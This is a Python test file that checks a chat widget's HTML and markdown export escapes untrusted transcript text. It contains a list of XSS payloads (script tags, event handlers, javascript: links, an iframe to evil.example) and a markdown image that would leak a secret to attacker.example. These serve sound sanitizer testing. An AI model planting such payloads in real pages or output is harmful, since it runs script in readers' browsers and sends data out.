"""The static transcript: sanitized HTML (and markdown) built from the widget's transcript items."""

import re
from html.parser import HTMLParser

import pytest

from notebook_tools import results as r
from notebook_tools.widgets import _export
from notebook_tools.widgets._export import STATIC_CLASS, to_html, to_markdown


class Tags(HTMLParser):
    """Every tag and attribute of a page, as a browser's parser would see them."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def items(*extra):
    return [
        {"id": "u0", "kind": "user", "text": "Clean <b>the</b> data\nplease"},
        {
            "id": "r1",
            "kind": "assistant",
            "text": "Sure, **dropping** nulls:\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        },
        {
            "id": "t1",
            "kind": "tool",
            "name": "user_confirm",
            "status": "done",
            "input": {"message": "Drop 3 rows?"},
            "prompt": {
                "status": "answered",
                "answer": "Yes",
                "input": {"message": "Drop 3 rows?"},
                "name": "user_confirm",
            },
        },
        {
            "id": "t2",
            "kind": "tool",
            "name": "load",
            "status": "done",
            "input": {},
            "result": "DataFrame: 2 rows",
        },
        {"id": "e1", "kind": "event", "text": "cleaning expanded · 2 tools"},
        *extra,
    ]


def test_the_conversation_prompts_and_answers_are_in_the_html():
    page = to_html(items(), chat_id="abc")
    assert page.startswith(f'<div class="{STATIC_CLASS} mathjax_ignore tex2jax_ignore" data-nt-chat="abc">')
    assert "Clean &lt;b&gt;the&lt;/b&gt; data<br>please" in page
    assert "<strong>dropping</strong>" in page and "<table>" in page  # model markdown, tables included
    assert "❓ Drop 3 rows?" in page and "→ <b>Yes</b>" in page
    assert "<pre>DataFrame: 2 rows</pre>" in page and "cleaning expanded" in page


def test_each_item_of_the_copy_is_laid_out_only_near_sight():
    shown = [item for item in items() if _export._item(item)]
    page = to_html([*items(), {"id": "gone", "kind": "assistant", "text": "x", "discarded": True}])
    # one wrapper per item shown (none for a discarded one), each skipped by the browser while out of sight
    assert page.count('class="nt-static-item"') == len(shown) == page.count("content-visibility:auto")
    assert page.count(_export.ITEM_OPEN) == len(shown)
    assert to_html([]).count("nt-static-item") == 0


SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<style>body{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    '"><script>alert(1)</script>',
    "![x](javascript:alert(1))",
    "<details open ontoggle=alert(1)>",
]


@pytest.mark.parametrize("payload", SCRIPTS)
def test_no_script_or_handler_from_untrusted_text(payload):
    hostile = [
        {"id": "u", "kind": "user", "text": payload},
        {"id": "a", "kind": "assistant", "text": payload},
        {
            "id": "t",
            "kind": "tool",
            "name": payload,
            "status": payload,
            "input": {payload: payload},
            "result": payload,
        },
        {
            "id": "p",
            "kind": "prompt",
            "prompt": {"status": "answered", "answer": payload, "input": {"prompt": payload}},
        },
        {"id": "e", "kind": "event", "text": payload},
        {
            "id": "s",
            "kind": "tool",
            "name": "x",
            "shown": r.json_result({"d": payload}, summary=payload).model_dump(mode="json"),
        },
    ]
    page = to_html(hostile, chat_id=payload, title=payload)
    parser = Tags()
    parser.feed(page)
    assert not parser.tags & {"script", "iframe", "style", "svg", "object", "embed", "details"}, parser.tags
    for tag, name, value in parser.attributes:
        assert not name.startswith("on"), (tag, name)
        if name in ("href", "src"):
            assert value.startswith(("http:", "https:", "mailto:", "data:image/")), (tag, name, value)
    markdown = to_markdown(hostile)
    outside_fences = re.sub(r"(`{3,})\n.*?\n\1", "", markdown, flags=re.S)  # fenced code is shown as text
    assert "<script" not in outside_fences.lower() and "<img" not in outside_fences.lower()


def test_rich_results_have_a_static_form():
    import pandas as pd

    table = r.convert(pd.DataFrame({"x": range(30), "y": ["<b>v</b>"] * 30})).model_dump(mode="json")
    edit = r.diff("a.py", "a\n", "b\n").model_dump(mode="json")
    page = to_html(
        items(
            {"id": "t3", "kind": "tool", "name": "load", "status": "done", "shown": table},
            {"id": "t4", "kind": "tool", "name": "edit", "status": "done", "shown": edit},
        )
    )
    assert "<th>x</th><th>y</th>" in page and "<td>&lt;b&gt;v&lt;/b&gt;</td>" in page
    assert page.count("<tr>") - to_html(items()).count("<tr>") == 11  # header + the first 10 rows
    assert "30 rows x 2 columns; the first 10 shown." in page
    assert "<pre>--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-a\n+b</pre>" in page


def test_markdown_export_reads_as_a_conversation():
    text = to_markdown(items())
    assert text.startswith(
        "**You:**\n\n> Clean &lt;b&gt;the&lt;/b&gt; data\n> please\n\n**Claude:**\n\nSure, **dropping**"
    )
    assert "> ❓ Drop 3 rows?\n> → Yes" in text
    assert "```\nDataFrame: 2 rows\n```" in text and "_cleaning expanded · 2 tools_" in text


def test_images_in_model_text_are_links_never_fetched():
    """An <img> from model text would be fetched by whoever opens the page: data to any server."""
    text = "![chart](https://attacker.example/leak?q=SECRET) [![in](https://a.example/i.png)](https://b.example/) ![d](data:image/png;base64,AAAA)"
    page = to_html([{"id": "a", "kind": "assistant", "text": text}])
    parser = Tags()
    parser.feed(page)
    assert "img" not in parser.tags
    assert (
        "🖼 image from attacker.example: chart" in page
        and 'href="https://attacker.example/leak?q=SECRET"' in page
    )
    assert "🖼 image from a.example: in" in page and page.count("<a ") == 2  # no link inside a link
    assert "[image: d]" in page
